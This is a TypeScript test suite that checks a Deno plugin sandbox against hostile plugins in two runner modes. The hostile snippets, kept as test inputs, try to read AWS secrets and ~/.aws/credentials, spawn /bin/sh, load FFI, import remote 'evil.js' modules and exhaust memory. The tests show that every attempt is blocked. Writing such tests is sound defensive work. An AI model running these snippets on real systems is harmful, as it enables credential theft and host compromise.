/**
 * Hostile plugins against the real sandbox: real runner processes and real Workers, in both runner
 * modes — `deno run` and the emulation of the compiled binary (full process permissions, no
 * `--no-remote`/`--no-npm`). Every attempt is blocked or contained, the host keeps working, and an
 * issuance running alongside is unaffected. The last test of each mode checks the tally of
 * attempts against the ones seen contained.
 */
import { assertEquals, assertIncludes, assertTrue } from "./assert.ts";
import { callPlugin } from "../src/adapters/plugin_host/supervisor.ts";
import {
  RUNNER_EXIT_OUT_OF_MEMORY,
  RUNNER_RSS_LIMIT_MB,
} from "../src/adapters/plugin_host/limits.ts";
import { runnerCommand } from "../src/adapters/plugin_host/runner_launch.ts";
import { moduleDataUrl } from "../src/adapters/plugin_host/bootstrap.ts";
import {
  assertBlocked,
  attack,
  attempted,
  call,
  contained,
  event,
  MODES,
  spec,
  tally,
} from "./harness/hostile.ts";
import { setupScenario } from "./harness/scenario.ts";
import { runSentinel } from "./harness/sentinel.ts";
import { ROOT } from "./harness/tools.ts";
import { networkEnv } from "./harness/network_env.ts";

/** A module server on the loopback interface that counts the requests for each path. */
function moduleServer() {
  const hits: Record<string, number> = {};
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    const path = new URL(request.url).pathname;
    hits[path] = (hits[path] ?? 0) + 1;
    return path.endsWith(".js")
      ? new Response(`export const x = "remote"; globalThis.postMessage?.("remote");`, {
        headers: { "content-type": "text/javascript" },
      })
      : new Response("pong");
  });
  return { server, hits, port: server.addr.port };
}

/** How much the host's peak resident memory grew during `fn`, in MiB (Linux), else undefined. */
async function hostPeakGrowthMiB(fn: () => Promise<void>): Promise<number | undefined> {
  const peak = () =>
    Number(/VmHWM:\s+(\d+)/.exec(Deno.readTextFileSync("/proc/self/status"))![1]) / 1024;
  let measured = true;
  try {
    Deno.writeTextFileSync("/proc/self/clear_refs", "5"); // resets VmHWM to the current RSS
  } catch {
    measured = false;
  }
  const before = measured ? peak() : 0;
  await fn();
  return measured ? peak() - before : undefined;
}

/** Files under `dir` (recursively) whose contents include `text`. */
function filesContaining(dir: string, text: string): string[] {
  const found: string[] = [];
  let entries: Deno.DirEntry[];
  try {
    entries = [...Deno.readDirSync(dir)];
  } catch {
    return found;
  }
  for (const entry of entries) {
    const path = `${dir}/${entry.name}`;
    if (entry.isDirectory) found.push(...filesContaining(path, text));
    else if (entry.isFile) {
      try {
        if (new TextDecoder().decode(Deno.readFileSync(path)).includes(text)) found.push(path);
      } catch { /* vanished */ }
    }
  }
  return found;
}

function exists(path: string): boolean {
  try {
    Deno.statSync(path);
    return true;
  } catch {
    return false;
  }
}

for (const mode of MODES) {
  const name = (title: string) => `[${mode}] ${title}`;

  Deno.test(
    name("a plugin cannot read the environment, even a secret the host holds, nor ask for it"),
    async () => {
      Deno.env.set("AWS_SECRET_ACCESS_KEY", "host-secret-must-not-leak");
      try {
        const outcome = await attack(
          mode,
          `return { delivered: true, detail: Deno.env.get("AWS_SECRET_ACCESS_KEY") };`,
        );
        assertBlocked(mode, outcome, "Requires env access");
        assertTrue(!JSON.stringify(outcome).includes("host-secret-must-not-leak"));
        const asked = await attack(
          mode,
          `const s = await Deno.permissions.request({ name: "env" }); return { delivered: s.state === "granted", detail: s.state };`,
        );
        assertEquals(asked.ok && asked.result, { delivered: false, detail: "denied" });
        contained(mode);
      } finally {
        Deno.env.delete("AWS_SECRET_ACCESS_KEY");
      }
    },
  );

  Deno.test(name("a plugin cannot read ~/.aws/credentials or write a file"), async () => {
    const home = Deno.env.get("HOME");
    assertBlocked(
      mode,
      await attack(
        mode,
        `return { delivered: true, detail: await Deno.readTextFile(${
          JSON.stringify(`${home}/.aws/credentials`)
        }) };`,
      ),
      "Requires read access",
    );
    const target = `${await Deno.makeTempDir()}/pwned`;
    assertBlocked(
      mode,
      await attack(
        mode,
        `await Deno.writeTextFile(${JSON.stringify(target)}, "x"); return { delivered: true };`,
      ),
      "Requires write access",
    );
    assertEquals(exists(target), false);
  });

  Deno.test(name("a plugin cannot spawn a shell, use FFI or read system information"), async () => {
    assertBlocked(
      mode,
      await attack(
        mode,
        `await new Deno.Command("/bin/sh", { args: ["-c", "id"] }).output(); return { delivered: true };`,
      ),
      "Requires run access",
    );
    assertBlocked(
      mode,
      await attack(mode, `Deno.dlopen("libc.so.6", {}); return { delivered: true };`),
      "Requires ffi access",
    );
    assertBlocked(
      mode,
      await attack(mode, `return { delivered: true, detail: Deno.hostname() };`),
      "Requires sys access",
    );
  });

  Deno.test(name("network: a declared host is reachable, any other is not"), async () => {
    const { server, port } = moduleServer();
    try {
      const ok = await call(
        mode,
        `const r = await fetch("http://127.0.0.1:${port}/"); return { delivered: true, detail: await r.text() };`,
        { net: [`127.0.0.1:${port}`] },
      );
      assertEquals(ok, { ...ok, ok: true, result: { delivered: true, detail: "pong" } });
      assertBlocked(
        mode,
        await attack(
          mode,
          `await fetch("http://localhost:${port}/"); return { delivered: true };`,
          {
            net: [`127.0.0.1:${port}`],
          },
        ),
        "Requires net access",
      );
    } finally {
      await server.shutdown();
    }
  });

  Deno.test(
    name("a plugin cannot import remote, JSR or local-file code, even from a declared host"),
    async () => {
      const { server, hits, port } = moduleServer();
      const dir = await Deno.makeTempDir();
      await Deno.writeTextFile(`${dir}/secret.json`, `{ "secret": "local-file-must-not-leak" }`);
      await Deno.writeTextFile(`${dir}/local.js`, `export const x = "local";`);
      const grants = { net: [`127.0.0.1:${port}`] };
      const refused = /--no-remote|Requires import access|Requires read access/;
      try {
        for (
          const load of [
            // deno.land is on Deno's default import allow-list; the Worker's `import: false` alone
            // does not refuse it, nor a host the plugin may fetch from.
            `await import("https://deno.land/x/evil.js")`,
            `await import("https://example.com/evil.js")`,
            `await import("http://127.0.0.1:${port}/evil.js")`,
            `await import(["http://127.0.0.1:${port}", "computed.js"].join("/"))`,
            `await import("jsr:@std/assert@1")`,
            `await import("file://${dir}/secret.json", { with: { type: "json" } })`,
            `await import("file://${dir}/local.js")`,
          ]
        ) {
          const outcome = await attack(
            mode,
            `const m = ${load}; return { delivered: true, detail: JSON.stringify(m) };`,
            grants,
          );
          assertBlocked(mode, outcome, refused);
          assertTrue(!JSON.stringify(outcome).includes("local-file-must-not-leak"));
        }
        const nested = await attack(
          mode,
          `const m = await new Promise((resolve, reject) => {
          const w = new Worker("http://127.0.0.1:${port}/nested.js", { type: "module" });
          w.onmessage = (e) => resolve(e.data);
          w.onerror = (e) => { e.preventDefault(); reject(new Error(e.message)); };
        });
        return { delivered: true, detail: String(m) };`,
          grants,
        );
        assertBlocked(mode, nested, refused);
        assertEquals(hits, {}, "a module request reached the server");
      } finally {
        await server.shutdown();
        await Deno.remove(dir, { recursive: true });
      }
    },
  );

  Deno.test(
    name("a plugin cannot load npm code, cached or not, nor reach the npm registry"),
    async () => {
      // zod is one of Sentinel's own dependencies, so it is in the host's npm cache.
      assertEquals(typeof (await import("npm:zod@4.6.7")).z, "object");
      for (
        const load of [
          `await import("npm:zod@4.6.7")`,
          `await import(["npm:zod", "4.6.7"].join("@"))`,
          `await import("zod")`,
          `await import("npm:sentinel-hostile-test-not-a-package@1.0.0")`,
          `(await import("node:module")).createRequire(${JSON.stringify(`${ROOT}x.js`)})("zod")`,
        ]
      ) {
        const outcome = await attack(
          mode,
          `const m = ${load}; return { delivered: true, detail: typeof m };`,
        );
        assertBlocked(mode, outcome, /./);
        assertTrue(!/registry\.npmjs\.org/.test(JSON.stringify(outcome)), JSON.stringify(outcome));
      }
    },
  );

  Deno.test(
    name("what a plugin stores (Cache API, Web Storage, KV) dies with its run"),
    async () => {
      const marker = `sentinel-storage-marker-${crypto.randomUUID()}`;
      const body = `
      const found = [];
      const cache = await caches.open("hostile");
      const previous = await cache.match("https://storage.invalid/k");
      if (previous) found.push("caches: " + await previous.text());
      await cache.put("https://storage.invalid/k", new Response(${JSON.stringify(marker)}));
      for (const store of ["localStorage", "sessionStorage"]) {
        try {
          const s = globalThis[store];
          if (s?.getItem("k")) found.push(store + ": " + s.getItem("k"));
          s?.setItem("k", ${JSON.stringify(marker)});
        } catch { /* not available */ }
      }
      try {
        const kv = await Deno.openKv();
        const v = await kv.get(["k"]);
        if (v.value) found.push("kv: " + v.value);
        await kv.set(["k"], ${JSON.stringify(marker)});
        kv.close();
      } catch { /* not available */ }
      return { delivered: true, detail: JSON.stringify({ found, cwd: Deno.cwd() }) };`;
      const runs = [];
      for (let i = 0; i < 2; i++) {
        const outcome = await attack(mode, body);
        assertTrue(outcome.ok, JSON.stringify(outcome));
        runs.push(JSON.parse((outcome.result as { detail: string }).detail));
      }
      assertEquals(runs[1].found, [], "the second run saw what the first one stored");
      for (const run of runs) assertEquals(exists(run.cwd), false, `${run.cwd} was left behind`);
      const home = Deno.env.get("HOME") ?? "";
      const denoDir = Deno.env.get("DENO_DIR") ?? `${home}/.cache/deno`;
      assertEquals(filesContaining(`${denoDir}/location_data`, marker), []);
      contained(mode);
      contained(mode);
    },
  );

  Deno.test(name("a plugin learns neither the project path nor the home directory"), async () => {
    const outcome = await attack(
      mode,
      `const seen = [Deno.cwd(), process.cwd(), ...process.argv, process.argv0, process.execPath,
        Deno.execPath(), String(Deno.mainModule), location.href, import.meta.url];
      for (const probe of [() => Deno.readTextFileSync("relative.txt"), () => Deno.realPathSync(".")]) {
        try { probe(); } catch (e) { seen.push(e.message); }
      }
      return { delivered: true, detail: JSON.stringify(seen) };`,
    );
    assertTrue(outcome.ok, JSON.stringify(outcome));
    const seen: string[] = JSON.parse((outcome.result as { detail: string }).detail);
    // The executable's own path is visible (docs/plugins.md, "Sandbox limits"): check the rest
    // for the home directory only when the executable does not live under it.
    const home = Deno.env.get("HOME")!;
    const exe = Deno.execPath();
    const project = ROOT.replace(/\/$/, "");
    for (const text of seen) {
      assertTrue(!text.includes(project), `the plugin saw the project path in ${text}`);
      if (!exe.startsWith(`${home}/`)) {
        assertTrue(!text.includes(`${home}/`) && text !== home, `the plugin saw $HOME in ${text}`);
      }
    }
    contained(mode);
  });

  Deno.test(
    name("a plugin that hangs is stopped at its timeout; the next call gets a fresh worker"),
    async () => {
      const hang = spec(
        `if (event.data.hang) { for (;;) {} } return { delivered: true, detail: "fresh" };`,
        { timeoutMs: 500 },
      );
      const notify = (hangs: boolean) => ({
        method: "notify" as const,
        payload: event({ hang: hangs }),
        context: { settings: {} },
      });
      const started = performance.now();
      attempted(mode);
      const [hung, next] = await callPlugin(hang, [notify(true), notify(false)], { mode });
      assertBlocked(mode, hung, "timed out after 500 ms");
      assertEquals(next.ok && next.result, { delivered: true, detail: "fresh" });
      assertTrue(performance.now() - started < 10_000);
    },
  );

  Deno.test(name("a plugin that allocates without bound ends only its own process"), async () => {
    const outcome = await attack(
      mode,
      `const hoard = []; for (;;) hoard.push(new Array(10000).fill(Math.random()));`,
      { timeoutMs: 20_000 },
    );
    assertBlocked(mode, outcome, "ended abnormally");
  });

  Deno.test(
    name("off-heap memory (ArrayBuffers) cannot grow a plugin's process past its bound"),
    async () => {
      const outcome = await attack(
        mode,
        `const hoard = []; let mib = 0;
      try {
        while (mib < 2048) {
          const b = new ArrayBuffer(32 << 20); new Uint8Array(b).fill(1); hoard.push(b); mib += 32;
        }
      } catch { /* allocation refused */ }
      return { delivered: true, detail: String(mib) };`,
        { timeoutMs: 20_000 },
      );
      if (outcome.ok) {
        const mib = Number((outcome.result as { detail: string }).detail);
        assertTrue(mib <= RUNNER_RSS_LIMIT_MB, `the plugin held ${mib} MiB of ArrayBuffers`);
        contained(mode);
      } else assertBlocked(mode, outcome, "out of memory");
    },
  );

  Deno.test(
    name("without RLIMIT_DATA, the runner's own watchdog ends an ArrayBuffer flood"),
    async () => {
      // The runner started directly, without prlimit: as on a system that lacks it.
      const [command, ...args] = runnerCommand({ net: [], write: [] }, mode);
      const source = `export default { notify() {
      const hoard = []; for (;;) { const b = new ArrayBuffer(32 << 20); new Uint8Array(b).fill(1); hoard.push(b); }
    } };`;
      const job = {
        plugin: { name: "flood", url: moduleDataUrl(source, false), net: [], write: [] },
        timeoutMs: 20_000,
        calls: [{ method: "notify", payload: event(), context: { settings: {} } }],
        replyTag: "\n<tag>",
        rssLimitBytes: RUNNER_RSS_LIMIT_MB * 1024 * 1024,
      };
      const cwd = await Deno.makeTempDir();
      attempted(mode);
      try {
        const child = new Deno.Command(command, {
          args,
          cwd,
          clearEnv: true,
          env: {
            ...networkEnv(),
            HOME: cwd,
            DENO_DIR: `${cwd}/deno_dir`,
            NPM_CONFIG_REGISTRY: "http://0.0.0.0:0/",
          },
          stdin: "piped",
          stdout: "null",
          stderr: "piped",
        }).spawn();
        const writer = child.stdin.getWriter();
        await writer.write(new TextEncoder().encode(JSON.stringify(job)));
        await writer.close();
        const { code, stderr } = await child.output();
        assertEquals(code, RUNNER_EXIT_OUT_OF_MEMORY, new TextDecoder().decode(stderr));
        assertIncludes(new TextDecoder().decode(stderr), "out of memory");
        contained(mode);
      } finally {
        await Deno.remove(cwd, { recursive: true });
      }
    },
  );

  Deno.test(
    name("a plugin flooding stdout and stderr costs the host a bounded buffer"),
    async () => {
      for (const stream of ["stdout", "stderr"]) {
        const growth = await hostPeakGrowthMiB(async () => {
          const outcome = await attack(
            mode,
            `const chunk = new Uint8Array(1 << 20).fill(65);
          for (let i = 0; i < 256; i++) Deno.${stream}.writeSync(chunk);
          return { delivered: true, detail: "after 256 MiB" };`,
            { timeoutMs: 20_000 },
          );
          const shown = JSON.stringify(outcome).slice(0, 300);
          assertEquals(
            outcome.ok && outcome.result,
            { delivered: true, detail: "after 256 MiB" },
            shown,
          );
        });
        if (growth !== undefined) {
          assertTrue(
            growth < 96,
            `the host's peak memory grew ${Math.round(growth)} MiB (${stream})`,
          );
        }
        contained(mode);
      }
    },
  );

  Deno.test(
    name("a result or error larger than its cap fails the call with a clear error"),
    async () => {
      assertBlocked(
        mode,
        await attack(mode, `return { delivered: true, detail: "x".repeat(2 << 20) };`),
        "more than the 262144 allowed",
      );
      const error = await attack(
        mode,
        `self.postMessage({ protocol: 1, id: 0, ok: false, error: "e".repeat(8 << 20) });
      await new Promise(() => {});`,
      );
      assertBlocked(mode, error, "the plugin reported: eee");
      assertTrue(
        JSON.stringify(error).length < 4_096,
        `an error of ${JSON.stringify(error).length}`,
      );
    },
  );

  Deno.test(
    name("a plugin that throws, fails to load, lacks the handler or posts garbage fails cleanly"),
    async () => {
      assertBlocked(
        mode,
        await attack(mode, `throw new Error("boom");`),
        "the plugin reported: boom",
      );
      assertBlocked(
        mode,
        await attack(
          mode,
          `self.postMessage("garbage"); await new Promise((r) => setTimeout(r, 100)); return { delivered: true };`,
        ),
        "malformed",
      );
      assertBlocked(
        mode,
        await attack(mode, `self.postMessage({ protocol: 1, id: 0, ok: "yes" }); return {};`),
        "malformed",
      );
      const broken = { ...spec(""), source: "export default {" };
      attempted(mode, 2);
      const [loadFailure] = await callPlugin(broken, [{
        method: "notify",
        payload: {},
        context: { settings: {} },
      }], {
        mode,
      });
      assertBlocked(mode, loadFailure, "the plugin failed");
      const [noHandler] = await callPlugin({ ...spec(""), source: "export default {};" }, [
        { method: "notify", payload: {}, context: { settings: {} } },
      ], { mode });
      assertBlocked(mode, noHandler, "has no notify handler");
    },
  );

  Deno.test(
    name("credential issuance alongside a memory-flooding plugin is unaffected"),
    async () => {
      await using t = await setupScenario("alice");
      const [issued, flood] = await Promise.all([
        runSentinel(["credentials", "prod"], { env: t.home.env }),
        attack(mode, `const hoard = []; for (;;) hoard.push(new Array(10000).fill(1));`, {
          timeoutMs: 20_000,
        }),
      ]);
      assertEquals(issued.code, 0, issued.stderr);
      assertEquals(JSON.parse(issued.stdout).Version, 1);
      assertBlocked(mode, flood, "ended abnormally");
      const after = await call(mode, `return { delivered: true, detail: "still fine" };`);
      assertEquals(after.ok && after.result, { delivered: true, detail: "still fine" });
    },
  );

  Deno.test(name("every hostile attempt above was contained"), () => {
    const { attempts, contained } = tally[mode];
    console.log(`hostile plugins, ${mode} runner: ${contained} of ${attempts} attempts contained`);
    assertTrue(attempts > 0, "no hostile attempt ran");
    assertEquals(contained, attempts);
  });
}
